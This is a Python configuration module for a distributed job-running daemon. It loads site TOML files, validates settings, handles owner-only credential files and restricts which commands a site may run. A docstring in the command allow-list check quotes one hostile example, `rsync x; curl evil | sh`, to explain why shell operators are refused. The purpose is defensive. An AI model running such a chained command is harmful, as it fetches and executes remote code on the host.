"""Site configuration: one TOML file per site (sites/NAME.toml).

    name = "reg_a"
    workers = 2
    peers = ["global", "reg_b"]        # sites this one replicates with

    [replication]
    filtered = false                   # push to peers only the jobs that concern them
    relay = false                      # a hub: peers push everything here to pass on
    peer_urls = { reg_b = "https://gw.example:6984" }   # reach a peer elsewhere than its url

    [couch]
    url = "http://127.0.0.1:5985"
    database = "jobs"
    credentials = "../.jobdist/secrets/reg_a.toml"      # the site's user (daemon, replications)
    admin_credentials = "../.jobdist/secrets/admin.toml"  # only `jobdist setup` uses it

    [commands]
    allow = ['rsync [^ ]+ [^ ]+', '/opt/backup/bin/[a-z-]+( [a-z0-9/_.-]+)*']  # full matches
    allow_shell = false                # true: commands may also use ; & | $ ` < > ( )

    [keepalive]
    period = 5.0                       # seconds between keep-alive passes
    stale_after = 30.0                 # re-save open jobs unchanged for this long

    [daemon]
    booking_timeout = 60.0             # give up a claim the creator has not decided
    shutdown_grace = 10.0              # running steps get this long on SIGTERM
    lease = 60.0                       # a winner's promise lasts this long unless renewed
    heartbeat = 15.0                   # how often a site renews the leases of its steps
    clock_skew_margin = 10.0           # the creator waits this much past a lease
    journal = "/var/lib/jobdist/journal"   # results kept while CouchDB does not answer, in
                                       # DIR/SITE (default: .jobdist/SITE/journal, from
                                       # the working directory; the start-up log says where)

    [succession]                       # optional: automatic creator succession
    successors = { global = ["reg_a", "reg_b"] }   # per creator, in order (default: none)
    creator_timeout = 120.0            # a creator silent this long (our clock) is succeeded

    [retention]                        # optional: the daemon removes its own old jobs
    older_than = "30d"                 # finished jobs last updated longer ago (90m, 12h, 30d)
    interval = 3600.0                  # seconds between passes
    export = "/var/lib/jobdist/removed.jsonl"   # append each job here before removing it

    [admin]
    port = 7984                        # the daemon's HTTP endpoint; none when unset
    host = "127.0.0.1"
    token = "..."                      # or $JOBDIST_ADMIN_TOKEN; required for every POST

Credentials files are TOML (`user = "..."`, `password = "..."`), relative paths
are read from the config file's directory, and a file that others may read is
refused. The environment overrides the files: $JOBDIST_COUCH_USER_REG_A and
$JOBDIST_COUCH_PASSWORD_REG_A for site reg_a, else $JOBDIST_COUCH_USER and
$JOBDIST_COUCH_PASSWORD (and the same with JOBDIST_COUCH_ADMIN_ for the admin).
A password never appears in a repr, a log line or an error.
Without `[commands] allow` a site runs any command; with it, only those that
fully match one of the patterns and, unless `allow_shell = true`, use none of
the shell's operators ; & | $ ` < > ( ) or a newline.

A key that SETTINGS does not list is refused, with the nearest known one
("unknown setting 'deamon' (did you mean 'daemon'?)"): a misspelt setting
would otherwise leave its default in force without a word.
"""

from __future__ import annotations

import os
import re
import secrets
import stat
import tomllib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from .errors import JobdistError
from .names import nearest_name
from .status import MIN_INTERVAL

SITE_NAME = re.compile(r"^[a-z0-9][a-z0-9_-]{0,63}$")
CREATOR_TIMEOUT = 120.0  # seconds of a creator's silence before its successor takes over
SHELL_OPERATORS = re.compile(r"[;&|$`<>()\n\r]")

# Every key a site config may hold, by section ("": the top level, besides the
# sections): the one list of them. `_site_from` reads through `Section`, which
# fails on a key missing here, so what is read and what is accepted cannot drift.
SETTINGS: dict[str, tuple[str, ...]] = {
    "": ("name", "workers", "peers"),
    "couch": ("url", "database", "credentials", "admin_credentials", "user", "password"),
    "replication": ("filtered", "relay", "peer_urls"),
    "commands": ("allow", "allow_shell"),
    "keepalive": ("period", "stale_after"),
    "daemon": ("booking_timeout", "shutdown_grace", "lease", "heartbeat", "clock_skew_margin",
               "journal"),
    "succession": ("successors", "creator_timeout"),
    "retention": ("older_than", "interval", "export"),
    "admin": ("port", "host", "token"),
}


class ConfigError(JobdistError, ValueError):
    """A site configuration that cannot be used; the message says why and where."""


def known_settings(section: str) -> tuple[str, ...]:
    """The keys of a section; the top level's ("") include the sections."""
    if section:
        return SETTINGS[section]
    return (*SETTINGS[""], *(name for name in SETTINGS if name))


def dotted(section: str, key: str) -> str:
    return f"{section}.{key}" if section else key


class Section(Mapping[str, Any]):
    """One table of a site config, readable only by the keys SETTINGS lists.

    Reading another is a bug in this module (configs holding that key would be
    refused as unknown), and fails on every load, not quietly.
    """

    def __init__(self, name: str, table: Mapping[str, Any]) -> None:
        self.name = name
        self._table = table

    def __getitem__(self, key: str) -> Any:
        self._require_listed(key)
        if key not in self._table:
            raise KeyError(dotted(self.name, key))  # "missing setting 'couch.url'"
        return self._table[key]

    def __contains__(self, key: object) -> bool:
        self._require_listed(key)
        return key in self._table

    def __iter__(self) -> Iterator[str]:
        return iter(self._table)

    def __len__(self) -> int:
        return len(self._table)

    def _require_listed(self, key: object) -> None:
        if key not in known_settings(self.name):
            raise RuntimeError(f"config.py reads {dotted(self.name, str(key))!r}, which "
                               "SETTINGS does not list")


@dataclass(frozen=True)
class SiteConfig:
    name: str
    couch_url: str
    database: str = "jobs"
    user: str | None = None
    password: str | None = field(default=None, repr=False)
    credentials: Path | None = None
    admin_credentials: Path | None = None
    admin_user: str | None = None
    admin_password: str | None = field(default=None, repr=False)
    allowed_commands: tuple[re.Pattern[str], ...] | None = None
    allow_shell: bool = False
    workers: int = 2
    peers: tuple[str, ...] = ()
    filtered: bool = False
    relay: bool = False
    peer_urls: Mapping[str, str] = field(default_factory=dict, hash=False)
    keepalive_period: float = 5.0
    keepalive_stale_after: float = 30.0
    booking_timeout: float = 60.0
    shutdown_grace: float = 10.0
    lease: float = 60.0
    heartbeat: float = 15.0
    clock_skew_margin: float = 10.0
    journal: Path | None = None
    # Per creator, the sites that take its live jobs over, in order, once it has
    # been silent for creator_timeout (docs/protocol.md, "Automatic succession").
    successors: Mapping[str, tuple[str, ...]] = field(default_factory=dict, hash=False)
    creator_timeout: float = CREATOR_TIMEOUT
    retention_older_than: str | None = None
    retention_interval: float = 3600.0
    retention_export: Path | None = None
    admin_host: str = "127.0.0.1"
    admin_port: int | None = None
    admin_token: str | None = field(default=None, repr=False)
    path: Path | None = None

    @property
    def port(self) -> int:
        return urlsplit(self.couch_url).port or 5984

    def require_credentials(self) -> None:
        """ConfigError when the config names a credentials file that is not there (and
        the environment gives no user): carrying on would run, or set replications
        up, without logging in."""
        if self.credentials is not None and self.user is None and not self.credentials.exists():
            raise ConfigError(f"{self.path}: the credentials file {self.credentials} does not "
                              "exist: run `jobdist secrets` (or `jobdist cluster up`, which "
                              "writes it)")

    def journal_dir(self) -> Path:
        """Where the daemon keeps the results its CouchDB did not take yet: a directory
        of its own, so sites sharing a host (and a configured path) never share one."""
        return self.journal / self.name if self.journal else \
            Path(".jobdist") / self.name / "journal"

    def allows(self, command: str) -> bool:
        """May this site run `command` (its `[commands] allow` list, if any)?

        The shell runs the command, so with a list a command that chains, pipes,
        redirects or substitutes (`rsync x; curl evil | sh` matches `rsync .*`) is
        refused unless `allow_shell = true` says the patterns account for that.
        """
        if self.allowed_commands is None:
            return True
        if not self.allow_shell and SHELL_OPERATORS.search(command):
            return False
        return any(pattern.fullmatch(command) for pattern in self.allowed_commands)


def load_site(path: Path | str) -> SiteConfig:
    path = Path(path)
    try:
        raw = tomllib.loads(path.read_text())
    except FileNotFoundError:
        raise ConfigError(f"{path}: no such site config") from None
    except (OSError, tomllib.TOMLDecodeError) as error:
        raise ConfigError(f"{path}: cannot read site config: {error}") from None
    try:
        _check_known(raw)
        return _site_from(Section("", raw), path)
    except (KeyError, TypeError, ValueError) as error:
        raise ConfigError(f"{path}: {_describe(error)}") from None


def load_sites(directory: Path | str) -> dict[str, SiteConfig]:
    """Every site config of a sites directory, by name; peers must name known sites."""
    directory = Path(directory)
    if not directory.is_dir():
        raise ConfigError(f"{directory}: no such sites directory")
    sites = {}
    for path in sorted(directory.glob("*.toml")):
        site = load_site(path)
        if site.name in sites:
            raise ConfigError(f"{path}: site name {site.name!r} is used twice")
        sites[site.name] = site
    if not sites:
        raise ConfigError(f"{directory}: no site configs (*.toml) found")
    for site in sites.values():
        unknown = sorted(set(site.peers) - set(sites))
        if unknown:
            raise ConfigError(f"{site.path}: unknown peers {', '.join(unknown)}")
        named = {name for creator, line in site.successors.items() for name in (creator, *line)}
        unknown = sorted(named - set(sites))
        if unknown:
            raise ConfigError(f"{site.path}: succession.successors names unknown sites "
                              f"{', '.join(unknown)}")
    return sites


def _check_known(raw: dict[str, Any]) -> None:
    """ValueError naming every key that SETTINGS does not list, each with a hint."""
    unknown = [_unknown_setting("", key) for key in raw if key not in known_settings("")]
    for section in SETTINGS:
        values = raw.get(section) if section else None
        if isinstance(values, dict):
            unknown += [_unknown_setting(section, key) for key in values
                        if key not in SETTINGS[section]]
    if unknown:
        raise ValueError("; ".join(unknown))


def _unknown_setting(section: str, key: str) -> str:
    """`unknown setting 'daemon.leese' (did you mean 'daemon.lease'?)`: the nearest key
    of the same section, else the section where this very key belongs."""
    nearest = nearest_name(key, known_settings(section))
    hint: str | None
    if nearest is not None:
        hint = dotted(section, nearest)
    else:
        hint = next((dotted(other, key) for other in SETTINGS
                     if other != section and key in SETTINGS[other]), None)
    suffix = f" (did you mean {hint!r}?)" if hint else ""
    return f"unknown setting {dotted(section, key)!r}{suffix}"


def _section(raw: Section, name: str) -> Section:
    table = raw.get(name, {})
    if not isinstance(table, dict):
        raise ValueError(f"{name} must be a table ([{name}]), not {table!r}")
    return Section(name, table)


def _site_from(raw: Section, path: Path) -> SiteConfig:
    name = raw["name"]
    if not isinstance(name, str) or not SITE_NAME.match(name):
        raise ValueError(f"name {name!r} must be 1-64 of a-z, 0-9, _ and -")
    couch = _section(raw, "couch")
    keepalive = _section(raw, "keepalive")
    daemon = _section(raw, "daemon")
    admin = _section(raw, "admin")
    replication = _section(raw, "replication")
    retention = _section(raw, "retention")
    commands = _section(raw, "commands")
    succession = _section(raw, "succession")
    if "older_than" in retention:
        from .retention import RetentionError, parse_duration

        try:
            parse_duration(str(retention["older_than"]))
        except RetentionError as error:
            raise ValueError(f"retention.older_than: {error}") from None
    workers = int(raw.get("workers", 2))
    if workers < 0:
        raise ValueError("workers must be >= 0")
    _check_lease(daemon)
    credentials = _path_setting(couch, "credentials", path)
    admin_credentials = _path_setting(couch, "admin_credentials", path)
    user, password = _login(couch, credentials, "JOBDIST_COUCH", name)
    admin_user, admin_password = _login({}, admin_credentials, "JOBDIST_COUCH_ADMIN", name)
    return SiteConfig(
        name=name,
        couch_url=str(couch["url"]),
        database=str(couch.get("database", "jobs")),
        user=user,
        password=password,
        credentials=credentials,
        admin_credentials=admin_credentials,
        admin_user=admin_user,
        admin_password=admin_password,
        allowed_commands=_allow_list(commands),
        allow_shell=bool(commands.get("allow_shell", False)),
        workers=workers,
        peers=tuple(raw.get("peers", ())),
        filtered=bool(replication.get("filtered", False)),
        relay=bool(replication.get("relay", False)),
        peer_urls={str(k): str(v) for k, v in replication.get("peer_urls", {}).items()},
        keepalive_period=float(keepalive.get("period", 5.0)),
        keepalive_stale_after=float(keepalive.get("stale_after", 30.0)),
        booking_timeout=float(daemon.get("booking_timeout", 60.0)),
        shutdown_grace=float(daemon.get("shutdown_grace", 10.0)),
        lease=float(daemon.get("lease", 60.0)),
        heartbeat=float(daemon.get("heartbeat", 15.0)),
        clock_skew_margin=float(daemon.get("clock_skew_margin", 10.0)),
        journal=_path_setting(daemon, "journal", path),
        successors=_successors(succession),
        creator_timeout=_creator_timeout(succession),
        retention_older_than=(str(retention["older_than"]) if "older_than" in retention
                              else None),
        retention_interval=float(retention.get("interval", 3600.0)),
        retention_export=Path(retention["export"]) if "export" in retention else None,
        admin_host=str(admin.get("host", "127.0.0.1")),
        admin_port=int(admin["port"]) if "port" in admin else None,
        admin_token=admin.get("token") or os.environ.get("JOBDIST_ADMIN_TOKEN"),
        path=path,
    )


def _path_setting(section: Mapping[str, Any], key: str, config_path: Path) -> Path | None:
    if key not in section:
        return None
    value = Path(str(section[key])).expanduser()
    return value if value.is_absolute() else config_path.parent / value


def _login(couch: Mapping[str, Any], credentials: Path | None, env_prefix: str,
           site: str) -> tuple[str | None, str | None]:
    """(user, password): the environment (PREFIX_USER_SITE before PREFIX_USER), else the
    credentials file, else inline keys."""
    user, password = couch.get("user"), couch.get("password")
    if credentials is not None and credentials.exists():
        user, password = read_credentials(credentials)
    return (_env(f"{env_prefix}_USER", site) or user,
            _env(f"{env_prefix}_PASSWORD", site) or password)


def _env(name: str, site: str) -> str | None:
    return os.environ.get(f"{name}_{site.upper()}") or os.environ.get(name)


def read_credentials(path: Path) -> tuple[str, str]:
    """A credentials file's (user, password); refused when others may read it."""
    mode = path.stat().st_mode
    if mode & (stat.S_IRWXG | stat.S_IRWXO):
        raise ValueError(f"credentials file {path} may be read by others (mode "
                         f"{stat.S_IMODE(mode):o}): run `chmod 600 {path}`")
    try:
        raw = tomllib.loads(path.read_text())
        return str(raw["user"]), str(raw["password"])
    except (OSError, tomllib.TOMLDecodeError, KeyError) as error:
        # Never echo the file: it holds a password.
        raise ValueError(f"credentials file {path} must hold `user` and `password` "
                         f"({type(error).__name__})") from None


def write_credentials(path: Path, user: str, password: str) -> None:
    """Write a credentials file only its owner can read, in a directory only it can enter."""
    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    with os.fdopen(fd, "w") as file:
        file.write(f"user = {_toml_string(user)}\npassword = {_toml_string(password)}\n")
    os.chmod(path, 0o600)  # an existing file keeps its mode through O_CREAT


def _toml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _allow_list(commands: Mapping[str, Any]) -> tuple[re.Pattern[str], ...] | None:
    if "allow" not in commands:
        return None
    patterns = commands["allow"]
    if not isinstance(patterns, list) or not all(isinstance(p, str) for p in patterns):
        raise ValueError("commands.allow must be a list of regular expressions")
    compiled = []
    for pattern in patterns:
        try:
            compiled.append(re.compile(pattern))
        except re.error as error:
            raise ValueError(f"commands.allow: bad pattern {pattern!r}: {error}") from None
    return tuple(compiled)


def _successors(succession: Mapping[str, Any]) -> dict[str, tuple[str, ...]]:
    """`{creator = [site, ...]}`: site names, none twice in a line, never the creator."""
    table = succession.get("successors", {})
    if not isinstance(table, dict):
        raise ValueError("succession.successors must be a table of creator = [sites]")
    lines = {}
    for creator, line in table.items():
        where = f"succession.successors.{creator}"
        if not SITE_NAME.match(creator):
            raise ValueError(f"{where}: {creator!r} is not a site name")
        if not isinstance(line, list) or not all(isinstance(name, str) and SITE_NAME.match(name)
                                                 for name in line):
            raise ValueError(f"{where} must be a list of site names, not {line!r}")
        if creator in line or len(set(line)) != len(line):
            raise ValueError(f"{where}: a site appears twice in the line {[creator, *line]}")
        lines[creator] = tuple(line)
    return lines


def _creator_timeout(succession: Mapping[str, Any]) -> float:
    timeout = float(succession.get("creator_timeout", CREATOR_TIMEOUT))
    # A live site renews its status at most once a MIN_INTERVAL: several must fit in.
    shortest = 4 * MIN_INTERVAL
    if not timeout >= shortest:
        raise ValueError(f"succession.creator_timeout ({timeout}) must be at least {shortest:g} "
                         "s: four renewals of a site's status")
    return timeout


def _check_lease(daemon: Mapping[str, Any]) -> None:
    lease, heartbeat = float(daemon.get("lease", 60.0)), float(daemon.get("heartbeat", 15.0))
    if not 0 < heartbeat <= lease / 2:
        raise ValueError(f"daemon.heartbeat ({heartbeat}) must be above 0 and at most half "
                         f"of daemon.lease ({lease}), so one lost heartbeat is not fatal")


def _describe(error: Exception) -> str:
    if isinstance(error, KeyError):
        return f"missing setting {error.args[0]!r}"
    return str(error)


def ensure_credentials(sites: dict[str, SiteConfig], sites_dir: Path) -> dict[str, SiteConfig]:
    """Write the credentials files the site configs name but nobody has written yet
    (a user per site, one admin), then read the configs again to pick them up."""
    written = False
    for site in sites.values():
        wanted = ((site.credentials, f"jobdist_{site.name}"), (site.admin_credentials, "admin"))
        for path, user in wanted:
            if path is not None and not path.exists():
                write_credentials(path, user, secrets.token_urlsafe(24))
                written = True
    return load_sites(sites_dir) if written else sites
